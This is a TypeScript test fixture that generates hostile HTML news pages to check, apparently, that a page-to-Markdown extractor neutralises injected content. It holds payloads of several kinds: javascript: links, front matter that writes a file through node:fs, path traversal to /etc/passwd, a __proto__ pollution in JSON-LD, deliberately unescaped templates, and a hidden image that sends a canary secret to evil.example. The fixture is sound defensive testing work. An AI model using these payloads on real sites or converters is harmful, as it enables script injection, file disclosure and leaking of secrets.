import { payloads } from "./hostile-articles.ts";

/** What no file of a site may hold: it stands where a page keeps what is for nobody's eyes. */
export const secret = "SECRET-b1946ac9";

const escaped = (text: string) =>
  text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
/** Of JSON inside of a script: the page's own end tag still ends it. */
const json = (text: string) => JSON.stringify(text);

/** Places in the head. What stands in quotation marks is escaped as a careful publisher does, and once as a careless one. */
const heads: Readonly<Record<string, (value: string) => string>> = {
  title: (value) => `<title>${escaped(value)}</title>`,
  "title, careless": (value) => `<title>${value}</title>`,
  "Open Graph": (value) =>
    ["title", "description", "site_name", "image", "url", "image:alt"]
      .map((name) => `<meta property="og:${name}" content="${escaped(value)}">`)
      .join(""),
  meta: (value) =>
    ["author", "description", "keywords", "date", "article:section"]
      .map((name) => `<meta name="${name}" content="${escaped(value)}">`)
      .join(""),
  "JSON-LD": (value) =>
    `<script type="application/ld+json">{"@type":"NewsArticle","headline":${json(value)},"author":[{"name":${json(value)}}],"datePublished":${json(value)},"articleSection":${json(value)},"image":{"url":${json(value)},"caption":${json(value)}},"__proto__":{"polluted":1}}</script>`,
  canonical: (value) => `<link rel="canonical" href="${escaped(value)}">`,
};

const bodies: Readonly<Record<string, (value: string) => string>> = {
  paragraph: (value) => `<p>Words of the harbour ${value} and more words.</p>`,
  "paragraph, as text": (value) => `<p>Words of the harbour ${escaped(value)} and more words.</p>`,
  "start of a line": (value) => `<p>${escaped(value)}</p>`,
  heading: (value) => `<h2>Wall ${value}</h2>`,
  "link text": (value) => `<p>See <a href="/b">the wall ${value}</a>.</p>`,
  "link address": (value) => `<p>See <a href="${escaped(value)}" title="${escaped(value)}">the wall</a>.</p>`,
  picture: (value) =>
    `<figure><img src="${escaped(value)}" alt="${escaped(value)}"><figcaption>${escaped(value)}</figcaption></figure>`,
  quote: (value) =>
    `<blockquote cite="${escaped(value)}"><p>It is old ${value}</p><cite>${escaped(value)}</cite></blockquote>`,
  list: (value) => `<ul><li>one ${value}</li><li>${escaped(value)}</li></ul>`,
  table: (value) => `<table><tr><th>a</th></tr><tr><td>${value}</td><td>${escaped(value)}</td></tr></table>`,
  code: (value) => `<pre><code class="language-${escaped(value)}">${escaped(value)}</code></pre>`,
  attributes: (value) =>
    `<div id="${escaped(value)}" class="${escaped(value)}" style="${escaped(value)}">words</div>`,
  byline: (value) =>
    `<p class="byline" rel="author">By ${escaped(value)}</p><time datetime="${escaped(value)}">then</time>`,
  "part of the page": (value) =>
    `<aside class="newsletter ${escaped(value)}"><p>Sign up ${value}</p></aside>`,
};

/** What text of a page must not become once it stands in a Markdown file. */
const ofMarkdown: Readonly<Record<string, string>> = {
  "front matter": "---\ntitle: taken\ndraft: true\n---",
  "front matter that runs": "---js\n{ title: require('node:fs').writeFileSync('CANARY', '') }\n---",
  "own marks of parts": "<!-- page: newsletter --> words <!-- /page -->",
  "Markdown link": "[x](javascript:window.hacked=1) ![x](//evil.example/a.png) <javascript:window.hacked=1>",
  "definition of a link": "[wall]: javascript:window.hacked=1",
  "file of this machine": "![x](../private.png) ![x](file:///etc/passwd) [y](../../../etc/passwd)",
  "note of a vault": "![[private.png]] [[../../etc/passwd]]",
  "path for a name": "../../../../escaped",
  "name of a device": "CON",
};

const hidden = `<!-- ${secret} --><input type="hidden" value="${secret}"><script>var token="${secret}"</script><template>${secret}</template><style>.${secret}{}</style><noscript><img src="//evil.example/${secret}.gif"></noscript>`;

export interface HostilePage {
  readonly name: string;
  readonly html: string;
}

/** Two pages a payload: one with it in all places of the head, one with it in all of the body. */
export function hostilePages(): readonly HostilePage[] {
  return Object.entries({ ...payloads, ...ofMarkdown }).flatMap(([kind, payload], number) => [
    page(
      `${number}-head`,
      Object.values(heads)
        .map((place) => place(payload))
        .join("\n"),
      "",
    ),
    page(
      `${number}-body`,
      `<title>Case ${number} of the harbour wall</title>`,
      Object.values(bodies)
        .map((place) => place(payload))
        .join("\n"),
      kind,
    ),
  ]);
}

function page(name: string, head: string, body: string, kind = ""): HostilePage {
  const reporting = `<p>The harbour wall of case ${name} was closed on Monday after divers found cracks in its footing, and boats were sent to the old quay (${escaped(kind)}).</p>
<p>“We will stay where we are until the water falls,” Mara Quay said of case ${name} on Monday evening at the harbour office.</p>`;
  return {
    name,
    html: `<!doctype html><html><head><meta charset="utf-8">${head}<meta name="csrf-token" content="${secret}"></head><body>${hidden}<article><h1>Case ${name} of the wall</h1>${reporting}\n${body}\n${reporting.replaceAll("case", "the same case")}</article></body></html>`,
  };
}
